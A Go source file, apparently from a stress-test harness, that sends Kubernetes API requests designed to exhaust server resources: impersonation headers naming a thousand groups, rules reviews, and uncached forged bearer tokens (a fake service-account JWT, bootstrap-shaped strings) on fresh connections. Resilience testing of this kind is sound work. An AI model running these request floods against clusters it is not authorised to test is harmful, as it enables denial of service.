package attacks

import (
	"context"
	"crypto/rand"
	"encoding/base64"
	"fmt"
	"io"
	"net/http"
)

// Questions of who may do what, each of which costs the server more than its client.

// manyGroups acts as a user of a thousand groups, each of which is a right that the server
// looks for, and then as what it is.
func manyGroups(ctx context.Context, a *attacker) error {
	r, err := http.NewRequestWithContext(ctx, http.MethodGet, a.URL+a.Lists+"/crowd-1", nil)
	if err != nil {
		return err
	}
	r.Header.Set("Authorization", "Bearer "+a.Token)
	r.Header.Set("Impersonate-User", "stranger")
	n := a.serial.Add(1)
	const groups = 1000 // more is a longer header list than servers take
	for i := range groups {
		r.Header.Add("Impersonate-Group", fmt.Sprintf("g%d-%d", n, i))
	}
	client := a.client
	if n%2 == 0 {
		client = a.client1
	}
	answer, err := client.Do(r)
	if err != nil {
		return err
	}
	defer answer.Body.Close()
	if _, err := io.Copy(io.Discard, answer.Body); err != nil {
		return err
	}
	if answer.StatusCode >= 300 && answer.StatusCode != http.StatusForbidden { // which is the decision
		return status(answer.StatusCode)
	}
	return nil
}

// rulesReview asks for all rights of the user.
func rulesReview(ctx context.Context, a *attacker) error {
	return a.send(ctx, http.MethodPost, "/apis/authorization.k8s.io/v1/selfsubjectrulesreviews",
		`{"apiVersion":"authorization.k8s.io/v1","kind":"SelfSubjectRulesReview","spec":{"namespace":"crowd"}}`)
}

// failingToken authenticates by a token that is none, of any kind, and each only once: no
// cache knows it. Each is a connection of its own, which the server ends.
func failingToken(ctx context.Context, a *attacker) error {
	random := make([]byte, 96)
	_, _ = rand.Read(random) // it never fails
	part := base64.RawURLEncoding.EncodeToString
	token := part(random)
	switch a.serial.Add(1) % 3 {
	case 0: // a service account's, with a signature that is none
		token = part([]byte(`{"alg":"RS256","kid":"none"}`)) + "." +
			part(fmt.Appendf(nil, `{"iss":"https://kubernetes.default.svc.cluster.local","sub":"system:serviceaccount:default:%x","exp":9999999999}`, random[:8])) + "." + part(random)
	case 1: // a bootstrap token
		token = fmt.Sprintf("%x.%x", random[:3], random[3:11])
	}
	client := a.newClient()
	defer client.CloseIdleConnections()
	r, err := http.NewRequestWithContext(ctx, http.MethodGet, a.URL+a.Lists+"?limit=1", nil)
	if err != nil {
		return err
	}
	r.Header.Set("Authorization", "Bearer "+token)
	answer, err := client.Do(r)
	if err != nil {
		return err
	}
	defer answer.Body.Close()
	_, err = io.Copy(io.Discard, answer.Body)
	if answer.StatusCode != http.StatusUnauthorized { // which is the answer
		return status(answer.StatusCode)
	}
	return err
}
